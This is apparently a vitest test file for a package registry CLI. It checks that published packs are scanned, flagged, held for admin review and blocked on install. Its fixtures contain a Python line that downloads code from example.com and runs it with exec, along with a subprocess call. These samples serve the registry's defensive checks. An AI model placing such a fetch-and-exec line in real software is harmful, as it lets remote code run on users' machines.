import { expect, test } from 'vitest';
import { homeForTest, regen } from '../../support/cli.js';
import { packForTest } from '../../support/packs.js';
import { ask, folderForTest, publisherForTest, serviceForTest } from '../../support/service.js';

test('the findings of a version are listed one by one, with their rules, wherever they are shown', async () => {
  const service = await serviceForTest();
  const { personalAccessToken } = await publisherForTest(service);
  const env = {
    REGEN_BASE_URL: service.url,
    REGEN_TOKEN: service.ownerToken,
    REGEN_PUBLISH_TOKEN: personalAccessToken,
  };
  const run = (argv: string, terminal = false) => regen(argv.split(' '), { env, terminal });
  const code =
    'import os, requests, subprocess\ndef load(): exec(requests.get("https://example.com/x.py").text)\nsubprocess.run(["ls"])\n';
  const folder = packForTest({ files: { '__init__.py': `${code}NODE_CLASS_MAPPINGS = {}\n` } });

  const refused = await run(`version publish ${folder} --allow-empty`);
  expect(refused.stderr).toContain('hidden until an admin of the registry approves it');
  const flagged = await run(`version publish ${folder} --allow-empty --allow-findings`);
  const [remote, started] = [
    '__init__.py:2: Runs code that is read from the network. (remote-code)',
    '__init__.py:3: Starts another program. (subprocess, only noted)',
  ];
  expect(flagged.stderr).toContain(
    `error: pack 1.0.0 was uploaded, is Flagged, and waits for a review by an admin.\n  ${remote}\n  ${started}\n`,
  );
  expect(flagged.stderr).toMatch(/hint: If the verdict is wrong, ask an admin/);

  const { stdout } = await run('version get pack 1.0 --reasons --json');
  expect(JSON.parse(stdout)).toMatchObject([
    { where: '__init__.py:2', rule: 'remote-code', severity: 'high' },
    { where: '__init__.py:3', rule: 'subprocess', severity: 'low', detail: 'Starts another program.' },
  ]);
  expect((await run('version list pack --reasons')).stdout.split('\n')[0]).toBe(
    '1.0.0\tNodeVersionStatusFlagged\t__init__.py:2\tremote-code\tRuns code that is read from the network.\thigh',
  );
  for (const argv of ['version list pack', 'version history pack 1.0.0', 'admin review'])
    expect((await run(argv, true)).stdout, argv).toContain(`${remote.replace('2:', '2')} (and 1 more)`);

  const absent = await run(`node install pack --into ${folder}`);
  expect([absent.exit, absent.stderr]).toEqual([
    6,
    expect.stringContaining('pack 1.0.0 is flagged.\n  __init__.py:2: Runs'),
  ]);
  const approved = await run('admin review pack@1.0.0 --approve');
  expect(approved.stdout).toContain('NodeVersionStatusActive\t__init__.py:2 Runs code');
  const explained = await regen(['admin', 'review', 'pack@1.0.0', '--approve', '--reason', 'It is ours'], {
    env,
  });
  expect(explained.stdout).toMatch(/\tIt is ours\\n__init__\.py:2 .*\\n__init__\.py:3 [^\\]*\n$/);
});

test('who only stored a publishing token reads the own flagged version, and public ones after it was revoked', async () => {
  const service = await serviceForTest();
  const { personalAccessToken } = await publisherForTest(service);
  const surroundings = { home: homeForTest(), cwd: folderForTest(), env: { REGEN_BASE_URL: service.url } };
  const run = (argv: string, stdin = '') => regen(argv.split(' '), { ...surroundings, stdin });
  const publish = (version: string, code: string) => {
    const folder = packForTest({ version, files: { '__init__.py': `${code}\nNODE_CLASS_MAPPINGS = {}\n` } });
    return run(`version publish ${folder} --allow-empty --allow-findings`);
  };
  expect((await run('auth login --with-token --publisher acme', personalAccessToken)).exit).toBe(0);
  expect((await publish('1.0.0', '')).exit).toBe(0);
  const flagged = await publish(
    '1.1.0',
    'import requests\nexec(requests.get("https://example.com/x.py").text)',
  );
  expect([flagged.exit, flagged.stderr]).toEqual([
    6,
    expect.stringContaining('regen version get pack 1.1.0'),
  ]);

  for (const argv of ['version get pack 1.1.0', 'version get pack 1.1.0 --reasons', 'version list pack'])
    expect((await run(argv)).stdout, argv).toContain('1.1.0');
  const download = `version download pack 1.1.0 --allow flagged -o ${surroundings.home}/`;
  expect((await run(download)).exit).toBe(0);
  expect((await run('version diff pack 1.0.0 1.1.0')).exit).toBe(0);
  const into = `--into ${surroundings.home} --allow flagged`;
  expect((await run(`node install pack@1.1.0 ${into}`)).exit).toBe(0);
  const verified = await run('version verify pack 1.1.0');
  expect([verified.exit, verified.stderr]).toEqual([6, expect.stringContaining('pack 1.1.0 is Flagged')]);
  const { id } = JSON.parse((await run('version get pack 1.1.0 --json')).stdout);
  expect((await run(`version history pack ${id}`)).stdout).toContain('NodeVersionStatusFlagged');
  // The number is used up, also for who changed the files.
  const fixed = packForTest({ version: '1.1.0' });
  const refused = await run(`version publish ${fixed}`);
  expect([refused.exit, refused.stderr]).toEqual([5, expect.stringContaining('regen version bump auto')]);
  const bumped = await run(`version bump auto ${fixed}`);
  expect(bumped.stderr).toContain('1.1.0 is used up: it is flagged.');
  expect((await run(`version check ${fixed}`)).exit).toBe(0);
  expect((await run(`version publish ${fixed}`)).exit).toBe(0);

  const tokens = `${service.url}/publishers/acme/tokens`;
  const [token] = (await ask(tokens, { token: service.ownerToken })).body;
  await ask(`${tokens}/${token.id}`, { method: 'DELETE', token: service.ownerToken });
  expect((await run('version get pack 1.0.0')).exit).toBe(0);
  expect((await run('version get pack 1.1.0')).exit).toBe(3);
});
